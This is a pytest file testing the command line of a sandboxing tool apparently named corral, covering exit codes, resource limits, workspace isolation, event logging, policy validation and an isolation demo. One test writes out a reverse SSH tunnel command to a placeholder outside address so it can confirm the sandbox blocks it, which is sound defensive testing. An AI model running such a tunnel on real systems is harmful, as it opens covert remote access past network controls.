"""The command line, run as a user would run it: a real process, real sandboxes."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

CORRAL = [sys.executable, "-m", "corral.cli.app"]


def corral(*args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CORRAL, *args], capture_output=True, text=True, input=stdin,
                          timeout=120, check=False)


def test_run_streams_output_and_exits_with_the_command_code() -> None:
    r = corral("run", "--", "echo out; echo err >&2; exit 7")
    assert (r.returncode, r.stdout, r.stderr) == (7, "out\n", "err\n")


def test_run_argv_form() -> None:
    r = corral("run", "--", "python3", "-c", "import sys; print(sys.argv[1:])", "a b", "c")
    assert r.stdout == "['a b', 'c']\n" and r.returncode == 0


def test_run_reports_limit_hits_on_stderr() -> None:
    r = corral("run", "--timeout", "0.5", "--", "sleep 30")
    assert r.returncode == 137
    assert "limit hit: command_timeout" in r.stderr and "timed out" in r.stderr


def test_run_applies_resource_flags() -> None:
    r = corral("run", "--memory", "64MiB", "--pids", "32", "--cpus", "0.5", "--",
               "cat /proc/self/cgroup >/dev/null; python3 -c 'bytearray(256*2**20)'")
    assert r.returncode == 137
    assert "limit hit: memory" in r.stderr


def test_run_workspace_is_copied_in(tmp_path: Path) -> None:
    (tmp_path / "hello.txt").write_text("from host\n")
    r = corral("run", "--workspace", str(tmp_path), "--", "cat hello.txt; echo x > new.txt")
    assert r.stdout == "from host\n"
    assert not (tmp_path / "new.txt").exists()  # the host copy is never written to


def test_run_records_events(tmp_path: Path) -> None:
    events = tmp_path / "events.jsonl"
    corral("run", "--events", str(events), "--", "sleep 0.01")
    records = [json.loads(line) for line in events.read_text().splitlines()]
    kinds = [r["kind"] for r in records]
    sandbox_kinds = [k for k in kinds if k.split(".")[0] in ("sandbox", "exec", "guard")]
    assert sandbox_kinds == ["sandbox.created", "guard.verdict", "exec.start", "exec.end",
                             "sandbox.closed"]
    # The monitor saw the command's process exec, attributed to step 0.
    execs = [r for r in records
             if r["kind"] == "proc.exec" and r["data"]["argv"] == ["sleep", "0.01"]]
    assert execs and execs[0]["step"] == 0


def test_run_refuses_a_denied_command_without_running_it() -> None:
    r = corral("run", "--", "touch /workspace/x; ssh -fNR 9000:localhost:22 a@203.0.113.9")
    assert r.returncode == 126
    assert "tunnel.ssh-remote-forward" in r.stderr and "not run" in r.stderr
    assert "Traceback" not in r.stderr


def test_bad_flag_value_is_one_clear_line() -> None:
    r = corral("run", "--memory", "lots", "--", "true")
    assert r.returncode == 2
    assert "--memory: expected a size" in r.stderr
    assert "Traceback" not in r.stderr


def test_bad_policy_file_names_file_field_and_line(tmp_path: Path) -> None:
    bad = tmp_path / "p.yaml"
    bad.write_text("resources:\n  cpus: 1\n  gpus: 2\n")
    r = corral("run", "--policy", str(bad), "--", "true")
    assert r.returncode == 2 and "Traceback" not in r.stderr
    assert str(bad) in r.stderr and "resources.gpus (line 3): unknown field" in r.stderr


def test_missing_workspace_dir_is_a_usage_error(tmp_path: Path) -> None:
    r = corral("run", "--workspace", str(tmp_path / "nope"), "--", "true")
    assert r.returncode == 2 and "is not a directory" in r.stderr
    assert "Traceback" not in r.stderr


def test_policy_check_and_show(tmp_path: Path) -> None:
    good = tmp_path / "good.yaml"
    good.write_text("extends: strict\nname: mine\n")
    assert corral("policy", "check", str(good)).returncode == 0
    shown = json.loads(corral("policy", "show", "strict").stdout)
    assert shown["name"] == "strict" and shown["network"]["mode"] == "none"
    bad = tmp_path / "bad.yaml"
    bad.write_text("network: [\n")
    r = corral("policy", "check", str(bad))
    assert r.returncode == 2 and "YAML syntax error" in r.stderr


def test_setup_reports_host_mechanisms() -> None:
    r = corral("setup")
    assert r.returncode == 0 and "bubblewrap" in r.stdout and "cgroups:    v" in r.stdout


def test_demo_contains_every_attempt(tmp_path: Path) -> None:
    r = corral("demo", "--events-dir", str(tmp_path), "--part", "isolation")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "ESCAPED" not in r.stdout and r.stdout.count("contained") >= 10
    lines = (tmp_path / "isolation-events.jsonl").read_text().splitlines()
    events = [json.loads(line) for line in lines]
    steps = {e["step"] for e in events if e["kind"] == "exec.start"}
    assert steps == set(range(9))
    assert all(e["episode_id"] == "demo" for e in events)


def test_demo_rejects_unknown_part() -> None:
    r = corral("demo", "--part", "everything")
    assert r.returncode == 2 and "--part" in r.stderr and "Traceback" not in r.stderr
